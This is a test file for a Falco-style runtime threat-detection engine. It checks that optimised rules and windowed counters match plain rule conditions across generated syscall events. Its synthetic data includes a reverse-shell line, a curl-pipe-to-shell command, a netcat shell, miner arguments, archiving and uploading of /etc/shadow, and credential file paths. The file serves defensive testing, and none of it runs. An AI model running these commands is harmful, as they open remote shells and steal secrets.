import { existsSync, globSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { createRuleEngine } from '../src/engine.ts';
import type { Container, Event, Fd, Process } from '../src/event.ts';
import { hostContainer } from '../src/event.ts';
import { eventTypeByName } from '../src/event-types/table.ts';
import { loadRules } from '../src/ruleset.ts';
import { createWindowCounter } from '../src/windowed/count.ts';
import { isWindowedFile, loadWindowed } from '../src/windowed/load.ts';

const own = `
- list: shells
  items: [sh, bash]
- macro: open_write
  condition: (evt.type in (open,openat,openat2) and evt.is_open_write=true and fd.typechar='f' and fd.num>=0)
- macro: open_read
  condition: (evt.type in (open,openat,openat2) and evt.is_open_read=true and fd.typechar='f' and fd.num>=0)
- macro: container
  condition: (container.id != host)
- macro: never
  condition: (evt.num=0)
- rule: A
  desc: a
  condition: open_write and container and (fd.name startswith /etc or fd.filename in (passwd, shadow)) and not proc.name in (shells) and not never
  output: a
  priority: INFO
- rule: B
  desc: b
  condition: (open_read or (evt.type in (open, openat) and fd.num=-1 and evt.res startswith E)) and not (container and user.uid=0)
  output: b
  priority: INFO
- rule: C
  desc: c
  condition: evt.type in (connect, openat, dup2) and (evt.failed=true or evt.rawres in (0, 1, 2) or not evt.arg.flags contains O_CREAT)
  output: c
  priority: INFO
- rule: D
  desc: d
  condition: not evt.type in (connect, execve) and (container or proc.name in (shells)) and evt.is_open_create=true
  output: d
  priority: INFO
- rule: E
  desc: e
  condition: proc.name=sh and evt.res != SUCCESS
  output: e
  priority: INFO
`;
// The public rules too, where they are: the more shapes of conditions the better.
const falco = path.resolve(import.meta.dirname, '../../..', process.env['PALISADE_CONFORMANCE_DATA'] ?? '../shared/data', 'falco/falco_rules.yaml');
const sets: readonly (readonly [string, string])[] = [['own rules', own], ...(existsSync(falco) ? [['Falco\'s rules', readFileSync(falco, 'utf8')] as const] : [])];

const somewhere: Container = { ...hostContainer, id: 'abcdefabcdef', image: 'shop/web:1', imageRepository: 'shop/web', privileged: true };
const name = fc.constantFrom('sh', 'bash', 'nginx', 'cat', 'find', 'nc', 'sshd', 'runc', 'shred');
const file = fc.constantFrom('/etc/passwd', '/etc/shadow', '/etc/../etc/shadow', '/tmp/x', '/var/log/syslog', '/tmp/release_agent', 'relative', '/root/.ssh/id_rsa');
const program = (): fc.Arbitrary<Process> =>
  fc.record({ comm: name, uid: fc.constantFrom(0, 33), tty: fc.constantFrom(0, 34816), container: fc.constantFrom(hostContainer, somewhere), args: fc.array(fc.constantFrom('-e', '-c', 'id_rsa', '/dev/shm/x'), { maxLength: 3 }), cap: fc.constantFrom(0, 2 ** 21, 2 ** 16) })
    .map(({ comm, uid, tty, container, args, cap }) => ({
      pid: 10, start: 0, ppid: 1, vpid: 10, sid: 10, pgid: 10, vsid: 10, vpgid: 10, comm, exe: comm, exepath: `/bin/${comm}`, args, env: [], cwd: '/tmp', uid, gid: 0, loginuid: 4294967295, tty, capEffective: cap, capPermitted: cap,
      capInheritable: 0, executable: { ino: 1, ctime: 0, mtime: 0, upper: uid === 0, lower: false, memfd: tty === 0, writable: false, deleted: false }, stdio: [], parent: undefined, container,
    }));
const descriptor: fc.Arbitrary<Fd | undefined> = fc.oneof(
  file.map((text): Fd => ({ num: 3, kind: 'file', path: text })),
  fc.constantFrom<(Fd | undefined)[]>(undefined, { num: 3, kind: 'ipv4', path: '', local: { ip: '10.0.0.1', port: 40000 }, remote: { ip: '203.0.113.1', port: 443 }, role: 'client', protocol: 'tcp' }),
);
const types = ['open', 'openat', 'openat2', 'connect', 'dup2', 'execve', 'symlinkat', 'linkat', 'ptrace', 'socket', 'procexit'].map((type) => eventTypeByName.get(type)?.id ?? 0);
let num = 0;
const event: fc.Arbitrary<Event> = fc.record({ type: fc.constantFrom(...types), process: fc.tuple(program(), program()).map(([one, parent]) => ({ ...one, parent })), result: fc.constantFrom(undefined, -2, -13, 0, 1, 5), fd: descriptor, flags: fc.constantFrom(0, 1, 2, 3, 0x241, 0x42, 0x80000), text: file })
  .map(({ type, process, result, fd, flags, text }) => ({
    num: (num += 1), type, time: 6e9, cpu: 0, tid: 10, vtid: 10, process, result, fd: result !== undefined && result < 0 ? undefined : fd,
    arg: (asked: string) => ({ flags, name: text, target: text, oldpath: text, request: 16, domain: 17 })[asked],
    path: (asked: string) => (['name', 'oldpath'].includes(asked) ? path.posix.resolve('/tmp', text) : undefined),
  }));

it.each(sets)('the indexed, simplified and reordered conditions of %s decide as the plain ones', (_, content) => {
  const context = { source: { origin: 0n, hostname: '' }, names: { user: () => ({ name: 'daemon', home: '/', shell: '/bin/sh' }), group: () => undefined, addresses: () => [] } };
  const { rules, problems } = loadRules([{ name: 'rules.yaml', content }], context);
  expect(problems.filter((problem) => problem.severity === 'error')).toEqual([]);
  const engine = createRuleEngine(rules, context);
  const fired = new Set<string>();
  fc.assert(
    fc.property(event, (one) => {
      const plain = rules.filter((rule) => rule.enabled && rule.check(one)).map((rule) => rule.name);
      for (const rule of plain) fired.add(rule);
      expect(engine.decide(one).map((rule) => rule.name)).toEqual(plain);
    }),
    { numRuns: 3000 },
  );
  // Agreeing on nothing would prove nothing.
  expect(fired.size).toBeGreaterThan(content === own ? 4 : 8);
}, 120_000);

// Much is remembered by process, parent, container, command line and path: so the same ones come again, in other
// company, and a container is described anew while its processes run.
const pack = globSync('content/runtime/*.yaml', { cwd: path.resolve(import.meta.dirname, '../../..') }).filter((file) => !/\.(en|zh-CN)\.yaml$/.test(file)).map((file) => ({ name: file, content: readFileSync(path.resolve(import.meta.dirname, '../../..', file), 'utf8') }));
const names = ['sh', 'bash', 'curl', 'wget', 'python3', 'nginx', 'php-fpm', 'nc', 'tar', 'xmrig', 'dpkg', 'crontab', 'gcc', 'sshd', 'busybox', 'app', 'base64', 'kubectl'];
const folders = ['/bin/', '/usr/bin/', '/tmp/', '/dev/shm/', '/usr/local/bin/', '/bin/busybox#'];
const lines = [[], ['-c', 'id'], ['-i'], ['-c', 'curl http://x/ | sh'], ['-e', '/bin/sh', '10.0.0.9', '4444'], ['-o', 'stratum+tcp://pool:3333'], ['czf', '/tmp/a.tgz', '/etc/shadow'], ['-d'], ['-F', 'file=@/tmp/a.tgz', 'http://x/'], ['/tmp/run.sh'], ['-c', 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1']];
const files = ['/etc/passwd', '/etc/shadow', '/etc/cron.d/job', '/var/www/html/shell.php', '/root/.ssh/authorized_keys', '/root/.bashrc', '/tmp/run.sh', '/tmp/lib.so', '/etc/ld.so.preload', '/proc/1/root/etc', '/sys/fs/cgroup/release_agent', '/proc/sys/kernel/core_pattern', '/usr/bin/sh', '/var/log/app.log', '/var/lib/app/1.db', '/run/secrets/kubernetes.io/serviceaccount/token', '/home/shop/a', '/dev/shm/x', '../../../etc/shadow', '/tmp/.hidden/x', '/srv/app/index.html', '/usr/lib/libc.so.6'];
const ends = ['10.0.0.9', '127.0.0.1', '169.254.169.254', '203.0.113.7', '192.168.1.20', 'fd00::1'];
const ports = [0, 22, 53, 80, 443, 2375, 3333, 4444, 6443, 10250];
const calls = ['open', 'openat', 'openat', 'openat2', 'creat', 'connect', 'connect', 'accept4', 'rename', 'renameat2', 'linkat', 'symlinkat', 'unlinkat', 'chmod', 'fchmodat', 'execve', 'execve', 'clone', 'procexit', 'dup2', 'dup3', 'setuid', 'mount', 'ptrace', 'socket', 'bpf', 'sendto', 'memfd_create'].map((type) => eventTypeByName.get(type)?.id ?? 0);

/** Small, fast, the same at each run for a seed (mulberry32). */
function random(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296) * below);
  };
}

function* history(seed: number, length: number): Generator<Event> {
  const below = random(seed);
  const one = <T>(list: readonly T[]): T => list[below(list.length)] as T;
  const described = (id: number, turn: number): Container => (id === 0 ? hostContainer : { ...hostContainer, id: `abcdef00000${id}`, type: 'docker', name: `c${id}`, image: turn === 0 ? '' : `shop/web:${turn}`, imageRepository: turn === 0 ? '' : one(['shop/web', 'docker.io/library/nginx', 'falcosecurity/falco']), privileged: turn === 0 ? undefined : below(2) === 0 });
  const containers = [0, 1, 2, 3].map((id) => described(id, 0));
  const file = (): Fd => ({ num: 3, kind: one(['file', 'file', 'file', 'directory']), path: one(files) });
  const socket = (): Fd => (below(6) === 0 ? { num: 4, kind: 'unix', path: one(['/var/run/docker.sock', '/tmp/x.sock']), role: 'client' } : { num: 4, kind: 'ipv4', path: '', local: { ip: '10.0.0.2', port: 40_000 }, remote: { ip: one(ends), port: one(ports) }, role: one(['client', 'server']), protocol: one(['tcp', 'udp']) });
  const made = (parent: (Process & { slot: number }) | undefined): Process & { slot: number } => {
    const comm = one(names);
    const slot = parent === undefined || below(8) === 0 ? below(4) : parent.slot;
    const pid = 100 + below(40);
    return {
      pid, start: below(1000) * 1e6, ppid: parent?.pid ?? 1, vpid: below(4) === 0 ? 1 : pid, sid: 1, pgid: 1, vsid: 1, vpgid: 1, comm, exe: comm, exepath: one(folders).replace(/#?$/, (mark) => (mark === '#' ? '' : comm)), args: one(lines), env: one([[], ['GATEWAY_INTERFACE=CGI/1.1'], ['LD_PRELOAD=/tmp/lib.so']]), cwd: one(['/', '/tmp', '/dev/shm']),
      uid: one([0, 33]), gid: 0, loginuid: 4294967295, tty: one([0, 34816]), capEffective: one([0, 2 ** 21]), capPermitted: 0, capInheritable: 0, executable: { ino: 1, ctime: 0, mtime: 0, upper: below(4) === 0, lower: true, memfd: below(10) === 0, writable: false, deleted: false },
      stdio: one<(Fd | undefined)[]>([[], [socket(), socket(), undefined], [{ num: 0, kind: 'pipe', path: '' }, undefined, undefined]]), parent, slot,
      get container() { return containers[slot] as Container; },
    };
  };
  const processes = [made(undefined), made(undefined), made(undefined)];
  for (let num = 1; num <= length; num += 1) {
    if (below(20) === 0) containers[1 + below(3)] = described(1 + below(3), 1 + below(3));
    if (below(25) === 0) processes[processes.length < 24 ? processes.length : below(24)] = made(one(processes));
    const type = one(calls);
    const fd = below(3) === 0 ? socket() : file();
    const result = one([0, 0, 5, -2, undefined]);
    const texts: Readonly<Record<string, string | number>> = { name: below(2) === 0 ? fd.path : one(files), path: one(files), oldpath: one(files), newpath: one(files), linkpath: one(files), target: one(files), filename: one(files), pathname: one(files), dev: one(files), dir: one(files), flags: one([0, 1, 2, 0x241, 0x42, 0x80000]), request: 16, domain: 17, mode: one([0o755, 0o4755]), ret: one([0, 255]) };
    yield {
      num, type, time: num * 1e8 + below(1e8), cpu: 0, tid: 10, vtid: 10, process: one(processes), result, fd: result !== undefined && result < 0 ? undefined : fd, arg: (asked) => texts[asked],
      path: (asked) => (['flags', 'request', 'domain', 'mode', 'ret'].includes(asked) || texts[asked] === undefined ? undefined : path.posix.resolve('/tmp', String(texts[asked]))),
    };
  }
}

it('the pack decides and counts a long history of the same subjects as its plain conditions do', () => {
  const context = { source: { origin: 0n, hostname: '' }, names: { user: () => ({ name: 'daemon', home: '/', shell: '/bin/sh' }), group: () => undefined, addresses: () => ['10.0.0.9'] } };
  const falcos = existsSync(falco) ? [{ name: 'falco_rules.yaml', content: readFileSync(falco, 'utf8') }] : [];
  const described = { name: 'described.yaml', content: '- rule: Opened in a described container\n  desc: what is told of a container changes\n  condition: evt.type in (open, openat, connect) and container.image.repository=shop/web and proc.name in (sh, app, nginx)\n  output: a\n  priority: INFO\n' };
  const set = loadRules([...falcos, described, ...pack.filter(({ content }) => !isWindowedFile(content))], context);
  const { windows } = loadWindowed(pack.filter(({ content }) => isWindowedFile(content)), set, context);
  const [engine, fast, plain] = [createRuleEngine(set.rules, context), createWindowCounter(windows, context), createWindowCounter(windows)];
  const fired = new Set<string>();
  let num = 0;
  for (const one of history(20_261_129, 2000)) {
    const expected = set.rules.filter((rule) => rule.enabled && rule.check(one)).map((rule) => rule.name);
    expect(engine.decide(one).map((rule) => rule.name)).toEqual(expected);
    const counted = plain.count({ ...one, num: (num -= 1) }).map(({ rule, count, distinct }) => [rule.name, count, distinct]);
    expect(fast.count(one).map(({ rule, count, distinct }) => [rule.name, count, distinct])).toEqual(counted);
    for (const rule of [...expected, ...counted.map(([rule]) => String(rule))]) fired.add(rule);
  }
  expect(fired.size).toBeGreaterThan(40);
}, 120_000);
